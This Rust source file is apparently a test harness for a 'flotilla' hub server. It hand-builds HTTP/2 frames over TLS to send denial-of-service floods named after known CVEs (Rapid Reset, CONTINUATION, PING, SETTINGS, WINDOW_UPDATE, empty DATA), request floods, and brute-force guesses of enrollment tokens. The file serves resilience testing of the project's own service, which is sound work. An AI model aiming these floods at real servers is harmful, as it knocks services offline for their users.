//! An HTTP/2 client that obeys no rule: frames as bytes (RFC 9113, section 4), over real TLS.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use flotilla_proto::v1;
use flotilla_shared::identity::HUB_SERVER_NAME;
use prost::Message as _;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, WriteHalf};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinHandle;
use tokio::time::Instant;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// Types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Connects TCP from a given source address, such as another one of loopback.
///
/// # Errors
/// When nothing listens there, or no file descriptors are left.
pub async fn tcp(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(to).await
}

/// A connection that can send anything. What it receives is discarded.
pub struct Frames {
    write: WriteHalf<TlsStream<TcpStream>>,
    reader: JoinHandle<u64>,
    next_stream: u32,
    /// Frames sent.
    pub sent: u64,
}

impl Drop for Frames {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut bytes = Vec::with_capacity(9 + payload.len());
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// A header block of literals without indexing (RFC 7541, section 6.2.2).
fn headers(path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    // :method POST and :scheme http are in the static table.
    let mut block = vec![0x83, 0x86];
    let mut literal = |name: &str, value: &str| {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0x7e).min(0x7e));
            block.extend_from_slice(text.as_bytes());
        }
    };
    literal(":path", path);
    literal(":authority", "hub");
    literal("content-type", "application/grpc");
    literal("te", "trailers");
    for (name, value) in more {
        literal(name, value);
    }
    block
}

impl Frames {
    /// Connects and sends the preface. `window`: the initial flow-control window of each stream towards the client.
    ///
    /// # Errors
    /// When no connection can be made.
    pub async fn connect(
        from: IpAddr,
        to: SocketAddr,
        tls: Arc<rustls::ClientConfig>,
        window: u32,
    ) -> std::io::Result<Self> {
        let tcp = tcp(from, to).await?;
        tcp.set_nodelay(true)?;
        let name = ServerName::try_from(HUB_SERVER_NAME).map_err(std::io::Error::other)?;
        let stream = TlsConnector::from(tls).connect(name, tcp).await?;
        let (mut read, mut write) = tokio::io::split(stream);
        let reader = tokio::spawn(async move {
            let mut buffer = vec![0; 64 << 10];
            let mut total = 0;
            while let Ok(count @ 1..) = read.read(&mut buffer).await {
                total += count as u64;
            }
            total
        });
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        let initial_window = [&[0, 4][..], &window.to_be_bytes()].concat();
        write
            .write_all(&frame(SETTINGS, 0, 0, &initial_window))
            .await?;
        write.flush().await?;
        Ok(Self {
            write,
            reader,
            next_stream: 1,
            sent: 1,
        })
    }

    /// Whether the other side has closed the connection.
    #[must_use]
    pub fn is_closed(&self) -> bool {
        self.reader.is_finished()
    }

    async fn send(&mut self, bytes: &[u8], frames: u64) -> std::io::Result<()> {
        self.write.write_all(bytes).await?;
        self.write.flush().await?;
        self.sent += frames;
        Ok(())
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        stream
    }

    /// Opens a stream for a method, and sends no message.
    ///
    /// # Errors
    /// When the connection is gone.
    pub async fn open(&mut self, path: &str, more: &[(&str, &str)]) -> std::io::Result<u32> {
        let stream = self.stream();
        let bytes = frame(HEADERS, END_HEADERS, stream, &headers(path, more));
        self.send(&bytes, 1).await?;
        Ok(stream)
    }

    /// Sends a gRPC message on a stream, in frames of at most 16 KiB.
    ///
    /// # Errors
    /// When the connection is gone.
    pub async fn message(
        &mut self,
        stream: u32,
        compressed: bool,
        content: &[u8],
    ) -> std::io::Result<()> {
        let length = u32::try_from(content.len()).unwrap_or(u32::MAX);
        let head = [&[u8::from(compressed)][..], &length.to_be_bytes()].concat();
        for part in std::iter::once(head.as_slice()).chain(content.chunks(16 << 10)) {
            self.send(&frame(DATA, 0, stream, part), 1).await?;
        }
        Ok(())
    }

    /// Sends one kind of flood until `until`, or until the other side closes the connection.
    pub async fn flood(&mut self, flood: Flood, until: Instant) {
        let mut open = 0;
        if flood == Flood::EmptyData {
            open = self.open(CONNECT, &[]).await.unwrap_or_default();
        }
        if flood == Flood::Continuation {
            let stream = self.stream();
            let begin = frame(HEADERS, 0, stream, &headers(CONNECT, &[]));
            if self.send(&begin, 1).await.is_err() {
                return;
            }
            open = stream;
        }
        while Instant::now() < until && !self.is_closed() {
            let (bytes, frames) = self.burst(flood, open);
            let sent = tokio::time::timeout_at(until, self.send(&bytes, frames)).await;
            if !matches!(sent, Ok(Ok(()))) {
                return;
            }
        }
    }

    fn burst(&mut self, flood: Flood, open: u32) -> (Vec<u8>, u64) {
        const BURST: u64 = 200;
        let mut bytes = Vec::new();
        for _ in 0..BURST {
            match flood {
                Flood::RapidReset => {
                    let stream = self.stream();
                    let block = headers(CONNECT, &[]);
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &block));
                    // CANCEL
                    bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                }
                Flood::Requests => {
                    let stream = self.stream();
                    let block = headers("/flotilla.v1.FleetService/GetHub", &[]);
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &block));
                    bytes.extend(frame(DATA, END_STREAM, stream, &[0; 5]));
                }
                Flood::Guesses => {
                    let stream = self.stream();
                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers(ENROLL, &[])));
                    let guess = v1::EnrollRequest {
                        token: format!("{stream:064x}"),
                        ..v1::EnrollRequest::default()
                    };
                    let content = guess.encode_to_vec();
                    let length = u32::try_from(content.len()).unwrap_or(u32::MAX);
                    let message = [&[0][..], &length.to_be_bytes(), &content].concat();
                    bytes.extend(frame(DATA, END_STREAM, stream, &message));
                }
                Flood::Continuation => {
                    let filler = "x".repeat(100);
                    let block = headers(CONNECT, &[("x-filler", &filler)]);
                    bytes.extend(frame(CONTINUATION, 0, open, &block[2..]));
                }
                Flood::EmptyData => bytes.extend(frame(DATA, 0, open, &[])),
                Flood::Ping => bytes.extend(frame(PING, 0, 0, &[7; 8])),
                Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9])),
                Flood::WindowUpdate => {
                    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]));
                }
            }
        }
        let frames = match flood {
            Flood::RapidReset | Flood::Requests | Flood::Guesses => 2 * BURST,
            _ => BURST,
        };
        (bytes, frames)
    }
}

const CONNECT: &str = "/flotilla.v1.AgentService/Connect";

const ENROLL: &str = "/flotilla.v1.EnrollmentService/Enroll";

/// Kinds of floods.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams that are opened and reset (CVE-2023-44487).
    RapidReset,
    /// Requests, as fast as possible.
    Requests,
    /// Invalid join tokens.
    Guesses,
    /// A header block that never ends (CVE-2024-27316 and similar).
    Continuation,
    /// Empty DATA frames (CVE-2019-9518).
    EmptyData,
    /// PING (CVE-2019-9512).
    Ping,
    /// SETTINGS (CVE-2019-9515).
    Settings,
    /// Windows opened byte by byte (CVE-2019-9517 and similar).
    WindowUpdate,
}
